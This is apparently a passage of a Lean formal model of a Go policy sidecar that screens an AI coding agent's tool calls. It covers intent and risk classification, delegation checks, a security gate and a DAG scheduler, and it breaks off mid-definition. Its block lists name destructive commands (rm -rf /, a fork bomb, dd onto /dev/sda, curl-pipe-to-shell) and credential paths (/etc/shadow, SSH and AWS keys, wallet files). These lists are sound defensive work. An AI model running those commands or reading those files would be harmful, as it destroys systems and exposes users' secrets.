import Mathlib

/-!
Verification of the kavach-go policy/orchestration sidecar.

This file shallowly embeds the two core subsystems of the repository:

* the verification chain (`shared/pkg/chain/verification.go`): intent
  classification, CEO delegation validation, Aegis security screening,
  research gate, and the `RunFull` runner;
* the parallel DAG scheduler (`shared/pkg/dag`): node/edge construction with
  inline cycle detection, status propagation, and Kahn levelization;
* the gates configuration loader (`shared/pkg/config` gates.go section of
  `task.go`): defaulting and merge behaviour.

Go strings are modelled by Lean `String`; Go's `strings.Contains`,
`strings.ToLower` are re-implemented below over `List Char` (the repository
only ever feeds ASCII pattern constants to them).  Go `map` values are
modelled as association lists with unique keys (a Go map cannot hold
duplicate keys); `float64` confidence/score constants are modelled in
integer hundredths (every constant occurring in the source is far enough
from every comparison threshold that this is order-faithful).
Wall-clock values (`time.Now`) are threaded as explicit parameters or
dropped where the claims do not mention them; file persistence is dropped
(the claims are about the in-memory results).
-/

namespace Kavach

/-! ## Go string primitives -/

/-- `startsWithL needle hay`: `needle` is a prefix of `hay` (char lists). -/
def startsWithL : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | c :: cs, h :: hs => c == h && startsWithL cs hs

/-- `subOf needle hay`: `needle` occurs as a contiguous substring of `hay`.
Mirrors Go `strings.Contains hay needle`. -/
def subOf (needle : List Char) : List Char → Bool
  | [] => needle.isEmpty
  | h :: hs => startsWithL needle (h :: hs) || subOf needle hs

/-- Go `strings.Contains s pat`. -/
def strContains (s pat : String) : Bool :=
  subOf pat.data s.data

/-- Go `strings.ToLower` restricted to ASCII (all repository patterns are
ASCII). -/
def lowerStr (s : String) : String :=
  ⟨s.data.map Char.toLower⟩

/-- Go helper `containsAny` from verification.go. -/
def containsAny (s : String) (patterns : List String) : Bool :=
  patterns.any (fun p => strContains s p)

/-! ## Verification chain: data model (verification.go)

`Timestamp` fields and the `Metadata` map are dropped: they record wall-clock
values and free-form debug data that no claim mentions.  `float64` fields
(confidence, security score) are modelled in integer hundredths
(`0.5 ↦ 50`, `0.8 ↦ 80`, ...): every float constant in the source is far
from every comparison threshold, so this is order-faithful. -/

/-- Go `VerificationResult` (Timestamp dropped). -/
structure VerificationResult where
  Gate : String
  Status : String            -- "pass", "warn", "block"
  Reason : String
  Context : List (String × String) := []
  NextAction : String := ""
deriving Repr, DecidableEq

/-- Go `IntentAnalysis`.  The Go field `Type` is a Lean keyword and is named
`Type'` here. -/
structure IntentAnalysis where
  Type' : String
  Confidence : Nat       -- hundredths of the Go float64
  RequiredSkills : List String
  RequiredAgents : List String
  RequiresResearch : Bool
  Complexity : String
  RiskLevel : String
deriving Repr, DecidableEq

/-- Go `CEODecision`. -/
structure CEODecision where
  Approved : Bool
  DelegationPlan : String := ""
  AssignedAgents : List String := []
  TaskBreakdown : List String := []
  Blockers : List String := []
  Warnings : List String := []
deriving Repr, DecidableEq

/-- Go `AegisVerification`.  `MemoryProvenance` keeps only the constant
prefix of the provenance stamp; the wall-clock suffix is dropped. -/
structure AegisVerification where
  Passed : Bool
  SecurityScore : Nat    -- hundredths of the Go float64
  ThreatLevel : String
  ViolationsFound : List String
  Recommendations : List String
  MemoryProvenance : String := ""
deriving Repr, DecidableEq

/-- Go `ResearchStatus`. -/
structure ResearchStatus where
  Done : Bool
  Sources : List String := []
  SuggestedQuery : String := ""
  Bypass : Bool
  BypassReason : String := ""
deriving Repr, DecidableEq

/-- Go `ChainState` (Metadata dropped). -/
structure ChainState where
  SessionID : String
  Intent : Option IntentAnalysis := none
  CEO : Option CEODecision := none
  Aegis : Option AegisVerification := none
  Research : Option ResearchStatus := none
  Results : List VerificationResult
  FinalStatus : String       -- "approved", "blocked", "pending"
deriving Repr, DecidableEq

/-- Go `NewChainState`. -/
def NewChainState (sessionID : String) : ChainState :=
  { SessionID := sessionID, Results := [], FinalStatus := "pending" }

/-- Go `(*ChainState).AddResult` (timestamp assignment dropped). -/
def AddResult (c : ChainState) (result : VerificationResult) : ChainState :=
  let c := { c with Results := c.Results ++ [result] }
  if result.Status == "block" then { c with FinalStatus := "blocked" } else c

/-- Go `(*ChainState).IsBlocked`. -/
def IsBlocked (c : ChainState) : Bool :=
  c.FinalStatus == "blocked"

/-! ## Intent analysis -/

/-- Go `extractAgents`.  Go iterates its keyword map in unspecified order;
the embedding fixes the source-literal order (no claim depends on the order
of the returned list). -/
def extractAgents (prompt : String) : List String :=
  let agentKeywords : List (String × String) :=
    [("backend", "backend-engineer"), ("frontend", "frontend-engineer"),
     ("database", "database-engineer"), ("devops", "devops-engineer"),
     ("security", "security-engineer"), ("test", "qa-lead"),
     ("explore", "Explore"), ("plan", "Plan")]
  agentKeywords.foldl
    (fun agents kw => if strContains prompt kw.1 then agents ++ [kw.2] else agents) []

/-- Go `AnalyzeIntent`. -/
def AnalyzeIntent (prompt : String) : IntentAnalysis :=
  let promptLower := lowerStr prompt
  let analysis : IntentAnalysis :=
    { Type' := "general", Confidence := 50, RequiredSkills := [],
      RequiredAgents := [], RequiresResearch := false,
      Complexity := "simple", RiskLevel := "low" }
  let analysis :=
    if containsAny promptLower ["implement", "create", "build", "add", "develop", "write"] then
      { analysis with Type' := "implement", RequiresResearch := true,
                      Complexity := "moderate", Confidence := 80 }
    else analysis
  let analysis :=
    if containsAny promptLower ["fix", "bug", "error", "debug", "broken", "not working", "crash"] then
      { analysis with Type' := "debug",
                      RequiredSkills := analysis.RequiredSkills ++ ["debug-like-expert"],
                      Complexity := "moderate", Confidence := 85 }
    else analysis
  let analysis :=
    if containsAny promptLower ["refactor", "restructure", "clean up", "improve", "optimize"] then
      { analysis with Type' := "refactor", RequiresResearch := true,
                      Complexity := "complex", RiskLevel := "medium", Confidence := 80 }
    else analysis
  let analysis :=
    if containsAny promptLower ["deploy", "release", "publish", "production", "go live"] then
      { analysis with Type' := "deploy",
                      RequiredSkills := analysis.RequiredSkills ++ ["cloud-infrastructure-mastery"],
                      RiskLevel := "high", Complexity := "complex", Confidence := 90,
                      RequiresResearch := true }
    else analysis
  let analysis :=
    if containsAny promptLower ["security", "auth", "encrypt", "vulnerability", "password"] then
      { analysis with Type' := "security",
                      RequiredSkills := analysis.RequiredSkills ++ ["security"],
                      RiskLevel := "high", RequiresResearch := true, Confidence := 85 }
    else analysis
  let analysis :=
    if containsAny promptLower ["delete", "remove", "drop", "destroy", "purge"] then
      { analysis with RiskLevel := "critical", Complexity := "complex" }
    else analysis
  { analysis with RequiredAgents := extractAgents promptLower }

/-! ## CEO gate -/

/-- Go `containsString`. -/
def containsString (slice : List String) (s : String) : Bool :=
  slice.any (fun item => item == s)

/-- Go `CEOValidate`.  The Go `*IntentAnalysis` nil pointer is `none`. -/
def CEOValidate (intent : Option IntentAnalysis) (toolName agentType : String) :
    CEODecision :=
  let decision : CEODecision :=
    { Approved := true, AssignedAgents := [], TaskBreakdown := [],
      Blockers := [], Warnings := [] }
  if toolName == "Task" && agentType == "" then
    { decision with Approved := false,
                    Blockers := decision.Blockers ++ ["Task requires subagent_type"] }
  else
    let decision :=
      match intent with
      | some i =>
        if !i.RequiredAgents.isEmpty &&
           (agentType != "" && !containsString i.RequiredAgents agentType) then
          { decision with Warnings := decision.Warnings ++
              ["Agent '" ++ agentType ++ "' may not be optimal for intent '" ++ i.Type' ++ "'"] }
        else decision
      | none => decision
    let decision :=
      match intent with
      | some i =>
        if i.RiskLevel == "critical" then
          { decision with Warnings := decision.Warnings ++
              ["CRITICAL risk level - verify user intent before proceeding"] }
        else decision
      | none => decision
    match intent with
    | some i =>
      if i.Complexity == "complex" then
        { decision with DelegationPlan := "Complex task - recommend task breakdown",
                        TaskBreakdown :=
          ["1. Research current patterns", "2. Create implementation plan",
           "3. Implement with verification", "4. Test and validate"] }
      else decision
    | none => decision

/-! ## Aegis gate -/

/-- Tool input: Go `map[string]interface{}`.  Only string values are ever
read by the chain (via `.(string)` assertions), so the embedding keeps an
association list of string entries; a key bound to a non-string Go value
behaves like an absent key and is modelled by omitting it. -/
def ToolInput := List (String × String)

/-- Lookup modelling `toolInput[k].(string)`: `none` when the key is absent
(or bound to a non-string value). -/
def getStr (ti : ToolInput) (k : String) : Option String :=
  (ti.find? (fun p => p.1 == k)).map (fun p => p.2)

/-- Go `isDangerousCommand` with its literal pattern list (the fork-bomb
pattern braces are escaped for Lean). -/
def isDangerousCommand (cmd : String) : Bool :=
  let dangerous : List String :=
    ["rm -rf /", "rm -rf /*", "> /dev/sda",
     ":()\x7b :|:& \x7d;:", "dd if=/dev/zero",
     "chmod -R 777 /", "curl | bash", "wget | sh"]
  let cmdLower := lowerStr cmd
  dangerous.any (fun d => strContains cmdLower d)

/-- Go `isSensitivePath`. -/
def isSensitivePath (path : String) : Bool :=
  let sensitive : List String :=
    ["/etc/shadow", "/etc/passwd", "/.ssh/",
     "/.aws/credentials", "/.gnupg/", ".pem", ".key"]
  let pathLower := lowerStr path
  sensitive.any (fun s => strContains pathLower s)

/-- Go `isProblematicEdit`.  Go `strings.TrimSpace(new) == ""` is "every
char is whitespace"; `len` counts bytes, which for the ASCII inputs the
claims use equals the char count. -/
def isProblematicEdit (old new : String) : Bool :=
  if old.data.length > 100 && new.data.all (fun c => c.isWhitespace) then true
  else
    let oldHasStub := containsAny (lowerStr old) ["todo", "fixme", "stub", "placeholder"]
    let newHasStub := containsAny (lowerStr new) ["todo", "fixme", "stub", "placeholder"]
    oldHasStub && !newHasStub && new.data.length ≤ old.data.length

/-- Go `AegisVerify` (provenance timestamp dropped; `intent` is unused by
the Go function body as well). -/
def AegisVerify (_intent : Option IntentAnalysis) (toolName : String)
    (toolInput : ToolInput) : AegisVerification :=
  let verification : AegisVerification :=
    { Passed := true, SecurityScore := 100, ThreatLevel := "none",
      ViolationsFound := [], Recommendations := [],
      MemoryProvenance := "" }
  let verification :=
    if toolName == "Bash" then
      match getStr toolInput "command" with
      | some cmd =>
        if isDangerousCommand cmd then
          { verification with Passed := false, ThreatLevel := "high",
                              SecurityScore := 0,
                              ViolationsFound := verification.ViolationsFound ++
                                ["Dangerous command pattern detected"] }
        else verification
      | none => verification
    else verification
  let verification :=
    if toolName == "Read" || toolName == "Write" || toolName == "Edit" then
      match getStr toolInput "file_path" with
      | some path =>
        if isSensitivePath path then
          { verification with Passed := false, ThreatLevel := "high",
                              SecurityScore := 0,
                              ViolationsFound := verification.ViolationsFound ++
                                ["Sensitive file access: " ++ path] }
        else verification
      | none => verification
    else verification
  let verification :=
    if toolName == "Edit" then
      let oldStr := (getStr toolInput "old_string").getD ""
      let newStr := (getStr toolInput "new_string").getD ""
      if isProblematicEdit oldStr newStr then
        { verification with Passed := false, ThreatLevel := "medium",
                            SecurityScore := 30,
                            ViolationsFound := verification.ViolationsFound ++
                              ["Suspicious code removal pattern - verify intent"] }
      else verification
    else verification
  { verification with MemoryProvenance := "chain_verification:" }

/-! ## Research gate -/

/-- Go `buildSearchQuery`; `year` stands for `time.Now().Format("2006")`. -/
def buildSearchQuery (year intentType : String) : String :=
  if intentType == "implement" then "implementation patterns " ++ year ++ " best practices"
  else if intentType == "security" then "security best practices " ++ year ++ " OWASP"
  else if intentType == "deploy" then "deployment patterns " ++ year ++ " production"
  else if intentType == "refactor" then "refactoring patterns " ++ year ++ " clean code"
  else "latest patterns " ++ year

/-- Go `ResearchCheck`; `year` threads the wall-clock year. -/
def ResearchCheck (year : String) (intent : Option IntentAnalysis)
    (researchDone : Bool) (prompt : String) : ResearchStatus :=
  let status : ResearchStatus := { Done := researchDone, Bypass := false }
  let promptLower := lowerStr prompt
  let bypassPatterns : List String :=
    ["typo", "comment", "rename", "format", "whitespace", "spacing", "fix typo"]
  match bypassPatterns.find? (fun p => strContains promptLower p) with
  | some p => { status with Bypass := true, BypassReason := "Trivial change: " ++ p }
  | none =>
    match intent with
    | some i =>
      if i.RequiresResearch && !researchDone then
        { status with Done := false, SuggestedQuery := buildSearchQuery year i.Type' }
      else status
    | none => status

/-! ## Chain runner (runner.go)

The runner's persistence (`saveState`), debug logging, and cache directory
are I/O and are dropped; `finalize` is then the identity. -/

/-- The `VerificationResult` built by Go `runIntentGate`.  The
`%.2f`-formatted confidence inside `Reason` is rendered from the hundredths
value. -/
def intentGateResult (intent : IntentAnalysis) : VerificationResult :=
  let result : VerificationResult :=
    { Gate := "INTENT", Status := "pass",
      Reason := "type=" ++ intent.Type' ++ " confidence=0." ++ toString intent.Confidence
                ++ " risk=" ++ intent.RiskLevel,
      Context := [("type", intent.Type'), ("complexity", intent.Complexity),
                  ("risk_level", intent.RiskLevel)] }
  if intent.RiskLevel == "critical" && intent.Confidence < 70 then
    { result with Status := "block",
                  Reason := "Critical risk with low confidence - requires explicit verification",
                  NextAction := "Clarify user intent before proceeding" }
  else result

/-- Go `runIntentGate`, as a state transformer. -/
def runIntentGate (st : ChainState) (prompt : String) : ChainState :=
  let intent := AnalyzeIntent prompt
  AddResult { st with Intent := some intent } (intentGateResult intent)

/-- The `VerificationResult` built by Go `runCEOGate`. -/
def ceoGateResult (ceo : CEODecision) : VerificationResult :=
  let result : VerificationResult :=
    { Gate := "CEO", Status := "pass", Reason := "Delegation strategy validated" }
  let result :=
    if !ceo.Approved then
      { result with Status := "block",
                    Reason := ceo.Blockers.headD result.Reason,
                    NextAction := "Provide required parameters or clarify task" }
    else if !ceo.Warnings.isEmpty then
      { result with Status := "warn", Reason := ceo.Warnings.headD result.Reason }
    else result
  if ceo.DelegationPlan != "" then
    { result with Context := [("plan", ceo.DelegationPlan)] }
  else result

/-- Go `runCEOGate`. -/
def runCEOGate (st : ChainState) (toolName agentType : String) : ChainState :=
  let ceo := CEOValidate st.Intent toolName agentType
  AddResult { st with CEO := some ceo } (ceoGateResult ceo)

/-- The `VerificationResult` built by Go `runAegisGate`. -/
def aegisGateResult (aegis : AegisVerification) : VerificationResult :=
  let result : VerificationResult :=
    { Gate := "AEGIS", Status := "pass",
      Reason := "security_score=0." ++ toString aegis.SecurityScore
                ++ " threat=" ++ aegis.ThreatLevel,
      Context := [("threat_level", aegis.ThreatLevel),
                  ("security_score", "0." ++ toString aegis.SecurityScore)] }
  let result :=
    if !aegis.Passed then
      { result with Status := "block",
                    Reason := aegis.ViolationsFound.headD result.Reason,
                    NextAction := "Address security violations before proceeding" }
    else result
  if !aegis.Recommendations.isEmpty then
    { result with Context := result.Context ++
        [("recommendations", aegis.Recommendations.headD "")] }
  else result

/-- Go `runAegisGate`. -/
def runAegisGate (st : ChainState) (toolName : String) (toolInput : ToolInput) :
    ChainState :=
  let aegis := AegisVerify st.Intent toolName toolInput
  AddResult { st with Aegis := some aegis } (aegisGateResult aegis)

/-- The `VerificationResult` built by Go `runResearchGate`. -/
def researchGateResult (intent : Option IntentAnalysis)
    (research : ResearchStatus) : VerificationResult :=
  let result : VerificationResult :=
    { Gate := "RESEARCH", Status := "pass",
      Reason := "TABULA_RASA compliance verified" }
  if research.Bypass then
    { result with Reason := "Bypassed: " ++ research.BypassReason }
  else
    let blockNow :=
      !research.Done &&
        (match intent with
         | some i => i.RequiresResearch
         | none => false)
    if blockNow then
      let result :=
        { result with
          Status := "block",
          Reason := "TABULA_RASA: Research required before " ++
            (match intent with | some i => i.Type' | none => "") }
      if research.SuggestedQuery != "" then
        { result with NextAction := "WebSearch: " ++ research.SuggestedQuery,
                      Context := [("suggested_query", research.SuggestedQuery)] }
      else result
    else result

/-- Go `runResearchGate`. -/
def runResearchGate (year : String) (st : ChainState) (researchDone : Bool)
    (prompt : String) : ChainState :=
  let research := ResearchCheck year st.Intent researchDone prompt
  AddResult { st with Research := some research } (researchGateResult st.Intent research)

/-- Go `(*Runner).RunFull`; `year` threads the wall-clock year used by the
research gate; persistence in `finalize` is dropped. -/
def RunFull (year sessionID prompt toolName : String) (toolInput : ToolInput)
    (researchDone : Bool) : ChainState :=
  let st := NewChainState sessionID
  let st := runIntentGate st prompt
  if IsBlocked st then st
  else
    let agentType := (getStr toolInput "subagent_type").getD ""
    let st := runCEOGate st toolName agentType
    if IsBlocked st then st
    else
      let st := runAegisGate st toolName toolInput
      if IsBlocked st then st
      else
        let st := runResearchGate year st researchDone prompt
        if IsBlocked st then st
        else { st with FinalStatus := "approved" }

/-! ## Gates configuration (shared/pkg/config gates.go)

The JSON file read and parse are I/O; `loadGatesConfigFromFile` is embedded
as a function of the parse outcome: `none` stands for "read failed or JSON
unmarshal failed", `some cfg` for a successfully parsed document. -/

/-- Go `ReadConfig`. -/
structure ReadConfig where
  Enabled : Bool := false
  BlockedPaths : List String := []
  BlockedExtensions : List String := []
  WarnExtensions : List String := []
  WarnPatterns : List String := []
deriving Repr, DecidableEq

/-- Go `BashConfig`. -/
structure BashConfig where
  Enabled : Bool := false
  BlockedCommands : List String := []
  BlockedPatterns : List String := []
  WarnCommands : List String := []
deriving Repr, DecidableEq

/-- Go `WriteConfig`. -/
structure WriteConfig where
  Enabled : Bool := false
  BlockedPaths : List String := []
  ProtectedFiles : List String := []
  SecretPatterns : List String := []
deriving Repr, DecidableEq

/-- Go `EnforcerConfig`. -/
structure EnforcerConfig where
  Enabled : Bool := false
  Chain : List String := []
  FailFast : Bool := false
deriving Repr, DecidableEq

/-- Go `IntentConfig` (`SkillTriggers` map as an association list). -/
structure IntentConfig where
  Enabled : Bool := false
  SkillTriggers : List (String × List String) := []
  ResearchTriggers : List String := []
deriving Repr, DecidableEq

/-- Go `ResearchConfig`. -/
structure ResearchConfig where
  Enabled : Bool := false
  RequireBeforeCode : Bool := false
  CodeTools : List String := []
  ResearchTools : List String := []
  BypassPatterns : List String := []
deriving Repr, DecidableEq

/-- Go `ContextConfig`. -/
structure ContextConfig where
  Enabled : Bool := false
  TrackHotPaths : Bool := false
  MaxHotFiles : Int := 0
  PersistToSTM : Bool := false
deriving Repr, DecidableEq

/-- Go `QualityConfig`. -/
structure QualityConfig where
  Enabled : Bool := false
  Comment : String := ""
  CheckSyntax : Bool := false
  CheckImports : Bool := false
  MaxFileSizeKB : Int := 0
deriving Repr, DecidableEq

/-- Go `GatesConfig`. -/
structure GatesConfig where
  Schema : String := ""
  Description : String := ""
  Updated : String := ""
  Read : ReadConfig := {}
  Bash : BashConfig := {}
  Write : WriteConfig := {}
  Enforcer : EnforcerConfig := {}
  Intent : IntentConfig := {}
  Research : ResearchConfig := {}
  Context : ContextConfig := {}
  Quality : QualityConfig := {}
deriving Repr, DecidableEq

/-- Go `getDefaultGatesConfig`. -/
def getDefaultGatesConfig : GatesConfig :=
  { Schema := "kavach-gates/1.0",
    Description := "Default kavach gates config",
    Read :=
      { Enabled := true,
        BlockedPaths :=
          ["/etc/shadow", "/etc/passwd", "/.ssh/id_rsa",
           "/.ssh/id_ed25519", "/.aws/credentials",
           "/.gnupg/", "/.bitcoin/wallet.dat"],
        BlockedExtensions := [".pem", ".key", ".p12", ".pfx"],
        WarnExtensions := [".env", ".secret"],
        WarnPatterns := ["credentials", "password", "token"] },
    Bash :=
      { Enabled := true,
        BlockedCommands :=
          ["rm -rf /", "rm -rf /*", "> /dev/sda",
           ":()\x7b :|:& \x7d;:", "curl | bash", "wget | sh"],
        WarnCommands := ["sudo", "rm -rf", "chmod 777"] },
    Write :=
      { Enabled := true,
        BlockedPaths := ["/etc/", "/usr/", "/bin/", "/.ssh/", "/.aws/"],
        ProtectedFiles := [".gitignore", ".env", "Cargo.lock"] },
    Enforcer :=
      { Enabled := true, Chain := ["read", "bash", "write"], FailFast := true },
    Intent :=
      { Enabled := true,
        SkillTriggers :=
          [("implement", ["rust", "backend"]),
           ("debug", ["debug-like-expert"]),
           ("security", ["security"])] },
    Research :=
      { Enabled := true, RequireBeforeCode := true,
        CodeTools := ["Write", "Edit"],
        ResearchTools := ["WebSearch", "WebFetch"] },
    Context := { Enabled := true, TrackHotPaths := true, MaxHotFiles := 10 },
    Quality := { Enabled := false } }

/-- Go `mergeGatesDefaults` (it fills exactly three lists). -/
def mergeGatesDefaults (cfg : GatesConfig) : GatesConfig :=
  let defaults := getDefaultGatesConfig
  let cfg :=
    if cfg.Read.BlockedPaths.length == 0 then
      { cfg with Read := { cfg.Read with BlockedPaths := defaults.Read.BlockedPaths } }
    else cfg
  let cfg :=
    if cfg.Bash.BlockedCommands.length == 0 then
      { cfg with Bash := { cfg.Bash with BlockedCommands := defaults.Bash.BlockedCommands } }
    else cfg
  if cfg.Write.BlockedPaths.length == 0 then
    { cfg with Write := { cfg.Write with BlockedPaths := defaults.Write.BlockedPaths } }
  else cfg

/-- Go `loadGatesConfigFromFile`: `parsed = none` models a read or parse
failure, `some cfg` a successfully unmarshalled document. -/
def loadGatesConfigFromFile (parsed : Option GatesConfig) : GatesConfig :=
  match parsed with
  | none => getDefaultGatesConfig
  | some cfg => mergeGatesDefaults cfg

/-! ## Parallel DAG scheduler (shared/pkg/dag)

`DAGState.Nodes` is a Go `map[string]*Node`; the embedding uses an
association list with unique keys (a Go map cannot hold duplicate keys; the
uniqueness appears as a hypothesis `KeysNodup` in theorems where it
matters).  Go mutates nodes through shared pointers; the embedding passes
the state functionally.  The two recursions that Go runs on the raw heap
(`hasPath`, `propagateSkip`) terminate because the visited set / the
skip marking grows; the embedding makes that termination explicit through a
fuel argument chosen large enough to never be exhausted (proved below). -/

/-- Go `NodeStatus`. -/
inductive NodeStatus where
  | pending | ready | dispatched | running | done | failed | skipped
deriving Repr, DecidableEq

/-- Go `NodeStatus.IsTerminal`. -/
def NodeStatus.IsTerminal : NodeStatus → Bool
  | .done => true
  | .failed => true
  | .skipped => true
  | _ => false

/-- Go `Node`.  `Level` is a Go `int`. -/
structure Node where
  ID : String
  Subject : String := ""
  Description : String := ""
  Agent : String := ""
  Skill : String := ""
  Status : NodeStatus := .pending
  DependsOn : List String := []
  Blocks : List String := []
  Level : Int := 0
  TaskID : String := ""
  Metadata : List (String × String) := []
deriving Repr, DecidableEq

/-- Go `DAGStatus`. -/
inductive DAGStatus where
  | active | complete | dagFailed
deriving Repr, DecidableEq

/-- Go `DAGState` (`ID`, `SessionID`, `RootPrompt` are decision-irrelevant
strings; `MaxLevel` is a Go `int`). -/
structure DAGState where
  ID : String := ""
  SessionID : String := ""
  RootPrompt : String := ""
  Nodes : List (String × Node) := []
  MaxLevel : Int := 0
  Status : DAGStatus := .active
deriving Repr, DecidableEq

/-- Go map read `s.Nodes[id]` (`none` = key absent, Go `nil`). -/
def findNode (s : DAGState) (id : String) : Option Node :=
  (s.Nodes.find? (fun p => p.1 == id)).map (fun p => p.2)

/-- Pointwise update of the node stored under `id` (Go mutates the node
through the `*Node` held in the map). -/
def updNode (s : DAGState) (id : String) (f : Node → Node) : DAGState :=
  { s with Nodes := s.Nodes.map (fun p => if p.1 == id then (p.1, f p.2) else p) }

/-- Go `(*DAGState).AddNode`.  The Go zero-status (`""`) defaulting to
`pending` is a Go-string artifact; the embedding's `NodeStatus` has no
empty value, so a caller passes the intended status directly. -/
def AddNode (s : DAGState) (n : Node) : Except String DAGState :=
  if (findNode s n.ID).isSome then
    .error ("duplicate node: " ++ n.ID)
  else
    .ok { s with Nodes := s.Nodes ++ [(n.ID, n)] }

/-! ### hasPath: DFS with a shared visited set

Go's `hasPath(from, to, visited)` threads one mutable visited map through
the whole search; the embedding returns the updated visited list alongside
the boolean.  Fuel decreases at each nesting level; each nesting level
beyond the first marks a previously unvisited id, so
`2 + (number of node entries) + (total length of all Blocks lists)`
strictly bounds the nesting depth (lemma `hasPathVis_fuel` below). -/

/-- The `for _, blocked := range node.Blocks` loop of `hasPath`,
parameterized by the recursive search on the remaining fuel: run `hp` on
each successor, threading the visited set, returning at the first `true`. -/
def hasPathBlocks (hp : String → List String → Bool × List String) :
    List String → List String → Bool × List String
  | [], vis => (false, vis)
  | b :: rest, vis =>
    match hp b vis with
    | (true, vis') => (true, vis')
    | (false, vis') => hasPathBlocks hp rest vis'

/-- Go `(*DAGState).hasPath` body. -/
def hasPathVis : Nat → DAGState → String → String → List String →
    Bool × List String
  | 0, _, _, _, vis => (false, vis)   -- never reached for the fuel used by `hasPath`
  | fuel + 1, s, f, t, vis =>
    if f == t then (true, vis)
    else if vis.contains f then (false, vis)
    else
      let vis := f :: vis
      match findNode s f with
      | none => (false, vis)
      | some node => hasPathBlocks (fun b v => hasPathVis fuel s b t v) node.Blocks vis

/-- Total length of all `Blocks` adjacency lists. -/
def totalBlocks (s : DAGState) : Nat :=
  (s.Nodes.map (fun p => p.2.Blocks.length)).sum

/-- Entry point matching Go's `s.hasPath(from, to, make(map[string]bool))`. -/
def hasPath (s : DAGState) (f t : String) : Bool :=
  (hasPathVis (2 + s.Nodes.length + totalBlocks s) s f t []).1

/-- Go `(*DAGState).AddEdge`. -/
def AddEdge (s : DAGState) (depID nodeID : String) : Except String DAGState :=
  if (findNode s depID).isNone then
    .error ("node not found: " ++ depID)
  else if (findNode s nodeID).isNone then
    .error ("node not found: " ++ nodeID)
  else if hasPath s nodeID depID then
    .error ("cycle detected: " ++ depID ++ " -> " ++ nodeID)
  else
    let s := updNode s nodeID (fun n => { n with DependsOn := n.DependsOn ++ [depID] })
    .ok (updNode s depID (fun n => { n with Blocks := n.Blocks ++ [nodeID] }))

/-! ### Status propagation -/

/-- Go `(*DAGState).checkReady`. -/
def checkReady (s : DAGState) (id : String) : DAGState :=
  match findNode s id with
  | none => s
  | some node =>
    if node.Status.IsTerminal then s
    else
      let allDone := node.DependsOn.all (fun depID =>
        match findNode s depID with
        | none => false                      -- Go: dep == nil → return
        | some dep => dep.Status == .done)   -- Go: non-terminal or non-done → return
      if allDone then updNode s id (fun n => { n with Status := .ready }) else s

/-- Go `(*DAGState).propagateSkip`.  Fuel decreases at each nesting level;
each level beyond the last marks a previously non-terminal node `skipped`,
so `s.Nodes.length + 1` fuel is never exhausted (lemma below). -/
def propagateSkip (fuel : Nat) (s : DAGState) (id : String) : DAGState :=
  match fuel with
  | 0 => s   -- never reached for the fuel used by `UpdateNodeStatus`
  | fuel + 1 =>
    match findNode s id with
    | none => s
    | some node =>
      if node.Status.IsTerminal then s
      else
        let s := updNode s id (fun n => { n with Status := .skipped })
        node.Blocks.foldl (fun acc b => propagateSkip fuel acc b) s

/-- Go `(*DAGState).IsComplete`. -/
def IsComplete (s : DAGState) : Bool :=
  s.Nodes.all (fun p => p.2.Status.IsTerminal) && decide (s.Nodes.length > 0)

/-- Go `(*DAGState).UpdateNodeStatus`. -/
def UpdateNodeStatus (s : DAGState) (id : String) (status : NodeStatus) : DAGState :=
  match findNode s id with
  | none => s
  | some node =>
    let s := updNode s id (fun n => { n with Status := status })
    let s :=
      if status == .done then node.Blocks.foldl (fun acc b => checkReady acc b) s
      else s
    let s :=
      if status == .failed then
        node.Blocks.foldl (fun acc b => propagateSkip (s.Nodes.length + 1) acc b) s
      else s
    if IsComplete s then
      if s.Nodes.any (fun p => p.2.Status == .failed || p.2.Status == .skipped) then
        { s with Status := .dagFailed }
      else
        { s with Status := .complete }
    else s

/-- Go `(*DAGState).ReadyNodes` (map iteration order fixed to entry order). -/
def ReadyNodes (s : DAGState) : List Node :=
  (s.Nodes.filter (fun p => p.2.Status == .ready)).map (fun p => p.2)

/-! ### Kahn levelization (topo.go)

Go seeds the queue by iterating the `inDeg` map (derived from the `Nodes`
map) in unspecified order; the embedding fixes the association-list entry
order.  No claim depends on the order of nodes inside one level.  The outer
`for len(queue) > 0` loop runs at most one round per processed node, so
`s.Nodes.length + 1` fuel is never exhausted (proved below). -/

/-- Go `ParallelLevel`. -/
structure ParallelLevel where
  Level : Int
  Nodes : List Node
deriving Repr, DecidableEq

/-- Go map read `inDeg[id]` (a missing key reads as the zero value `0`). -/
def getDeg (m : List (String × Int)) (id : String) : Int :=
  ((m.find? (fun p => p.1 == id)).map (fun p => p.2)).getD 0

/-- Go `inDeg[id]--` (decrementing a missing key inserts `-1`). -/
def decDeg (m : List (String × Int)) (id : String) : List (String × Int) :=
  if (m.find? (fun p => p.1 == id)).isSome then
    m.map (fun p => if p.1 == id then (p.1, p.2 - 1) else p)
  else m ++ [(id, -1)]

/-- The body of the `for _, blockedID := range node.Blocks` loop of
`TopoLevels`: decrement the blocked child's in-degree and enqueue it when
the count hits zero. -/
def stepDec (p : List (String × Int) × List String) (b : String) :
    List (String × Int) × List String :=
  let d := decDeg p.1 b
  if getDeg d b == 0 then (d, p.2 ++ [b]) else (d, p.2)

/-- Accumulator of the inner `for _, id := range queue` loop. -/
structure TopoAcc where
  st : DAGState
  inDeg : List (String × Int)
  nextQ : List String
  levNodes : List Node
  processed : Nat
deriving Repr

/-- One iteration of the inner queue loop of `TopoLevels`: assign the level,
collect the node, decrement the in-degree of each blocked child and enqueue
the ones that hit zero.  (Go dereferences `state.Nodes[id]` without a nil
check; a missing id — impossible for the well-formed states the claims
quantify over — is skipped here.) -/
def topoVisit (lvl : Int) (acc : TopoAcc) (id : String) : TopoAcc :=
  match findNode acc.st id with
  | none => acc
  | some node =>
    let node' := { node with Level := lvl }
    let st' := updNode acc.st id (fun n => { n with Level := lvl })
    let dq := node.Blocks.foldl stepDec (acc.inDeg, acc.nextQ)
    { st := st', inDeg := dq.1, nextQ := dq.2,
      levNodes := acc.levNodes ++ [node'], processed := acc.processed + 1 }

/-- The outer `for len(queue) > 0` loop of `TopoLevels`. -/
def topoLoop (fuel : Nat) (st : DAGState) (inDeg : List (String × Int))
    (queue : List String) (levels : List ParallelLevel) (processed : Nat) :
    DAGState × List ParallelLevel × Nat :=
  match fuel with
  | 0 => (st, levels, processed)   -- never reached for the fuel `TopoLevels` supplies
  | fuel + 1 =>
    match queue with
    | [] => (st, levels, processed)
    | _ =>
      let acc := queue.foldl (topoVisit (levels.length : Int))
        { st := st, inDeg := inDeg, nextQ := [], levNodes := [], processed := processed }
      topoLoop fuel acc.st acc.inDeg acc.nextQ
